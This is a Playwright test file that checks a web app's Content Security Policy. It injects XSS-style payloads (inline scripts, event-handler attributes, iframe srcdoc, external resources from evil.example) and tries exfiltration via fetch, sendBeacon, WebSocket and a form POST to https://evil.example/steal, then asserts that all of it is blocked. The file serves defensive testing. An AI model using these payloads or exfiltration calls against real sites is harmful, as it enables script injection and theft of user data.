import { expect, type Page, test } from "@playwright/test";
import { waitUntilHydrated, watchPolicy } from "../../support/page-policy";

const EVIL = "https://evil.example";

/** What somebody might bring into the HTML of a page, and the directive that stops it. */
const INJECTIONS: [directive: string, html: string][] = [
  ["script-src-elem", "<script>ran('inline')</script>"],
  ["script-src-elem", "<script>self.__next_f.push([1,ran('as data')])</script>"],
  ["script-src-elem", "<script src=\"data:text/javascript,ran('data')\"></script>"],
  ["script-src-elem", `<script src="${EVIL}/script.js"></script>`],
  ["script-src-elem", "<script type=module>ran('module')</script>"],
  ["script-src-attr", "<img src=/nothing.png onerror=\"ran('onerror')\">"],
  ["script-src-attr", "<svg onload=\"ran('onload')\"></svg>"],
  [
    "frame-src",
    `<iframe srcdoc="<script>parent.ran('srcdoc')</script>"></iframe><iframe src="${EVIL}/frame"></iframe>`,
  ],
  ["object-src", `<object data="${EVIL}/object"></object>`],
  ["style-src-elem", `<link rel=stylesheet href="${EVIL}/style.css">`],
  ["media-src", `<video src="${EVIL}/film.mp4"></video>`],
];

/** What a script that did get in might try, and the directive that stops it. */
const ATTEMPTS: [directive: string, attempt: () => unknown][] = [
  ["connect-src", () => fetch("https://evil.example/steal").catch(() => null)],
  ["connect-src", () => void navigator.sendBeacon("https://evil.example/steal", "x")],
  ["connect-src", () => void new WebSocket("wss://evil.example/steal")],
  [
    "form-action",
    () => {
      const form = document.body.appendChild(document.createElement("form"));
      Object.assign(form, { action: "https://evil.example/steal", method: "post" });
      form.submit();
    },
  ],
  [
    "script-src-elem",
    () => {
      const link = document.body.appendChild(document.createElement("a"));
      link.href = "javascript:ran('link')";
      link.click();
    },
  ],
];

/** Opens the page with this in its HTML, behind the answer's own headers. */
async function openWith(page: Page, path: string, html: string): Promise<void> {
  await page.route(path, async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace("</head>", `${html}</head>`);
    await route.fulfill({ response, body });
  });
  await page.goto(path);
  await waitUntilHydrated(page);
}

/** Lists what ran, and what left for elsewhere. */
async function watchDamage(page: Page): Promise<string[]> {
  const damage: string[] = [];
  await page.exposeFunction("ran", (what: string) => void damage.push(what));
  await page.context().route(/evil\.example/, async (route) => {
    damage.push(route.request().url());
    await route.abort();
  });
  return damage;
}

for (const [kind, path] of [
  ["cached", "/about"],
  ["of its visitor", "/login"],
] as const) {
  test(`nothing that is brought into a page that is ${kind} runs or loads`, async ({ page }) => {
    const listViolations = await watchPolicy(page);
    const damage = await watchDamage(page);
    for (const [directive, html] of INJECTIONS) {
      await openWith(page, path, html);
      await expect
        .poll(async () => (await listViolations()).map((line) => line.split(" ")[0]), html)
        .toContain(directive);
      await page.unrouteAll({ behavior: "wait" });
    }
    expect(damage).toEqual([]);
  });

  test(`a script within a page that is ${kind} reaches nobody else`, async ({ page }) => {
    const listViolations = await watchPolicy(page);
    const damage = await watchDamage(page);
    await page.goto(path);
    await waitUntilHydrated(page);
    for (const [directive, attempt] of ATTEMPTS) {
      const before = (await listViolations()).length;
      await page.evaluate(attempt);
      await expect
        .poll(
          async () => (await listViolations()).slice(before).map((line) => line.split(" ")[0]),
          String(attempt),
        )
        .toContain(directive);
    }
    expect(damage).toEqual([]);
  });
}

test("a base brought into a page does not move its addresses elsewhere", async ({ page }) => {
  const listViolations = await watchPolicy(page);
  await openWith(page, "/about", `<base href="${EVIL}/">`);
  expect(await listViolations()).toContain(`base-uri ${EVIL}/`);
  expect(await page.evaluate(() => document.baseURI)).toBe(page.url());
});

test("the watch sees what a page without a policy lets through", async ({ page }) => {
  const damage = await watchDamage(page);
  await page.route("/about", async (route) => {
    const response = await route.fetch();
    const { "content-security-policy": _policy, ...headers } = response.headers();
    const body = (await response.text()).replace("</head>", "<script>ran('inline')</script></head>");
    await route.fulfill({ response, headers, body });
  });
  await page.goto("/about");
  await page.evaluate((address) => fetch(address).catch(() => null), `${EVIL}/steal`);
  expect(damage).toEqual(["inline", `${EVIL}/steal`]);
});
